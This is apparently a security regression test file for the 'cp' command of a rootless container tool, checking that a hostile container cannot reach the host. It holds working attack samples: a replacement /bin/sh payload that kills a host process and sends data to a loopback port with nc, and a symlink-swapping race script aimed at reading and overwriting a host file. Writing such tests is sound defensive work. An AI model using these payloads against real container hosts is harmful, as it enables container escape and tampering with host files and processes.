// `tspod cp` runs the container's own `sh` and `tar` on the container's side, and a hostile
// container (or image) may have replaced them. The attack, for real: the container's /bin/sh is
// a payload that, whenever cp runs it, signals a process of the host user (its pid planted in
// the container) and connects to a port that listens on the host's loopback only. Before the fix
// the copy's child joined only the container's user and mount namespaces (a stopped container's
// got a new user and mount namespace only): the payload ran in the host's pid and network
// namespaces, where it killed the user's process (and could have ptraced tspod itself, a process
// of the same user) and reached the host-only port. Now it runs in the container's pid and
// network namespaces (fresh ones for a stopped container), under its seccomp filter.
//
// The second test races cp with a container that keeps swapping the copied dir for a symlink to
// `/` and to a host path: both directions resolve inside the container's root, whatever the link.
import test from 'ava'
import {ChildProcess, spawn} from 'node:child_process'
import * as fs from 'node:fs'
import * as net from 'node:net'
import * as path from 'node:path'
import * as tar from 'tar-stream'

import {sandboxWithImages} from '../helpers/image-sandbox'
import {Sandbox, tspod} from '../helpers/rootless'

async function tarOf(entries: {name: string; body?: string; mode?: number; type?: 'file' | 'directory'}[]): Promise<Buffer> {
  const pack = tar.pack()
  const chunks: Buffer[] = []
  pack.on('data', (c) => void chunks.push(c as Buffer))
  const done = new Promise<void>((resolve) => pack.on('end', () => resolve()))
  for (const e of entries) pack.entry({name: e.name, type: e.type ?? 'file', mode: e.mode ?? 0o644}, e.body ?? '')
  pack.finalize()
  await done
  return Buffer.concat(chunks)
}

/** A listener on the host's loopback that records what any process sends it. */
async function hostOnlyPort(t: {teardown(fn: () => unknown): void}): Promise<{port: number; received: string[]}> {
  const received: string[] = []
  const server = net.createServer((socket) => {
    let text = ''
    socket.on('data', (d) => (text += String(d)))
    socket.on('end', () => received.push(text.trim()))
    socket.on('error', () => undefined)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.close())
  return {port: (server.address() as net.AddressInfo).port, received}
}

/** A process of the sandbox's user, as any of the user's own processes on the host. */
function victim(t: {teardown(fn: () => unknown): void}, box: Sandbox): ChildProcess {
  const child = spawn('sleep', ['600'], {uid: box.user.uid, gid: box.user.gid, stdio: 'ignore'})
  t.teardown(() => child.kill('SIGKILL'))
  return child
}

/** Alive, and not a zombie a signal left behind. */
function alive(child: ChildProcess): boolean {
  if (child.exitCode !== null || child.signalCode !== null) return false
  const stat = fs.readFileSync(`/proc/${child.pid}/stat`, {encoding: 'utf8', flag: 'r'}).toString()
  return !/^\d+ \(.*\) [ZX]/.test(stat)
}

// busybox's sh runs its applets (tar) without exec, so the payload is the shell itself
const PAYLOAD = (port: number) => `#!/bin/busybox sh
{ echo ran; kill -9 "$(cat /victim)"; echo "reached from cp" | busybox nc -w 1 127.0.0.1 ${port}; } >>/payload.log 2>&1
exec /bin/busybox sh "$@"
`

test("cp's helper runs a hostile tar inside the container, running or stopped: no host process signalled, no host-only port reached", async (t) => {
  const box = await sandboxWithImages(t)
  const listener = await hostOnlyPort(t)
  const run = await tspod(box, ['run', '-d', '--name', 'hostile', '--network', 'none', 'busybox', 'sleep', '1000'])
  t.is(run.code, 0, run.stderr)
  t.teardown(() => tspod(box, ['rm', '-f', '-t', '0', 'hostile']))
  const dest = path.join(box.dir, 'out')
  fs.mkdirSync(dest)
  fs.chownSync(dest, box.user.uid, box.user.gid)

  for (const state of ['running', 'stopped'] as const) {
    const target = victim(t, box)
    const plant = await tspod(box, ['cp', '-', 'hostile:/'], {
      input: await tarOf([
        {name: 'victim', body: String(target.pid)},
        {name: 'bin/sh', body: PAYLOAD(listener.port), mode: 0o755},
      ]),
    })
    t.is(plant.code, 0, plant.stderr)
    if (state === 'stopped') t.is((await tspod(box, ['stop', '-t', '0', 'hostile'])).code, 0)

    // out of the container (its tar packs) and into it (its tar unpacks)
    const out = await tspod(box, ['cp', 'hostile:/etc/passwd', path.join(dest, `passwd-${state}`)])
    const into = await tspod(box, ['cp', '-', 'hostile:/tmp'], {input: await tarOf([{name: `in-${state}`, body: 'x'}])})
    await new Promise((resolve) => setTimeout(resolve, 200))
    t.true(alive(target), `${state}: the payload killed a host process`)
    t.deepEqual(listener.received, [], `${state}: the payload reached the host's loopback`)
    // the payload ran, and did its copying
    t.is(out.code, 0, out.stderr)
    t.is(into.code, 0, into.stderr)
    t.true(fs.readFileSync(path.join(dest, `passwd-${state}`), 'utf8').startsWith('root:'))
  }
  // the payload did run, at each of cp's steps
  t.is((await tspod(box, ['start', 'hostile'])).code, 0)
  const log = await tspod(box, ['exec', 'hostile', '/bin/busybox', 'grep', '-c', '^ran', '/payload.log'])
  t.true(Number(log.stdout.trim()) >= 8, log.stdout + log.stderr)
})

// Points /data, atomically, at a dir of its own, at `/` and at the path of a host dir (which
// exists in the container too), as fast as it can.
const SWAPPER = (hostPath: string) => `mkdir -p /real ${hostPath}
i=0; while [ ! -e /stop ]; do
  i=$((i+1))
  case $((i % 3)) in 0) t=/real ;; 1) t=/ ;; *) t=${hostPath} ;; esac
  ln -sfn $t /data.new && mv -fT /data.new /data
done; sleep 1000`

test('cp raced by a container swapping the copied dir for a symlink to / or to a host path reads and writes only the container', async (t) => {
  const box = await sandboxWithImages(t)
  const hostDir = path.join(box.dir, 'host')
  fs.mkdirSync(hostDir)
  fs.writeFileSync(path.join(hostDir, 'secret'), 'host secret\n')
  fs.chownSync(hostDir, box.user.uid, box.user.gid)
  fs.chownSync(path.join(hostDir, 'secret'), box.user.uid, box.user.gid)
  const run = await tspod(box, ['run', '-d', '--name', 'swapper', 'busybox', 'sh', '-c', SWAPPER(hostDir)])
  t.is(run.code, 0, run.stderr)
  t.teardown(() => tspod(box, ['rm', '-f', '-t', '0', 'swapper']))
  const dest = path.join(box.dir, 'dest')
  fs.mkdirSync(dest)
  fs.chownSync(dest, box.user.uid, box.user.gid)

  for (let i = 0; i < 6; i++) {
    // the outcome of each copy depends on the race; where it lands does not
    await tspod(box, ['cp', '-', 'swapper:/data'], {input: await tarOf([{name: `pwned-${i}`, body: 'pwned\n'}, {name: 'secret', body: 'overwritten\n'}])})
    await tspod(box, ['cp', `swapper:/data/secret`, path.join(dest, `secret-${i}`)])
  }
  t.deepEqual(fs.readdirSync(hostDir), ['secret'])
  t.is(fs.readFileSync(path.join(hostDir, 'secret'), 'utf8'), 'host secret\n')
  const copied = (dir: string): string[] =>
    fs.readdirSync(dir, {withFileTypes: true}).flatMap((e) => (e.isDirectory() ? copied(path.join(dir, e.name)) : [path.join(dir, e.name)]))
  for (const file of copied(dest)) t.not(fs.readFileSync(file, 'utf8'), 'host secret\n', file)
  // the race was real: the copies went somewhere in the container
  const seen = await tspod(box, ['exec', 'swapper', 'sh', '-c', `touch /stop; ls /real / ${hostDir} | grep -c pwned; true`])
  t.is(seen.code, 0, seen.stderr)
  t.true(Number(seen.stdout.trim()) > 0, seen.stdout)
})
